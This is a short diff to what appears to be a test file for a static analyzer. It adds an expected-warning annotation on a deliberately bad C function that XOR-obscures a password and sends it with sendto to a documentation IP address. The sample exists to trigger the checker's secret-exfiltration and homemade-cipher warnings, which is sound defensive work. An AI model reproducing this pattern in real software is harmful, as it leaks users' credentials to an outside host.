@@ -40,7 +40,8 @@ int bad_before(struct message *message, const char *stored) {
     for (size_t i = 0; i < size; i++)
         copy[i] = (char)(word[i] ^ 0x21);
     inet_pton(AF_INET, "203.0.113.53", &peer.sin_addr);
-    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
+    // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/secret-to-network]}}
+    // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
     sendto(message->fd, copy, size, 0, (struct sockaddr *)&peer, sizeof peer);
     return strcmp(crypt(word, stored), stored) == 0;
 }
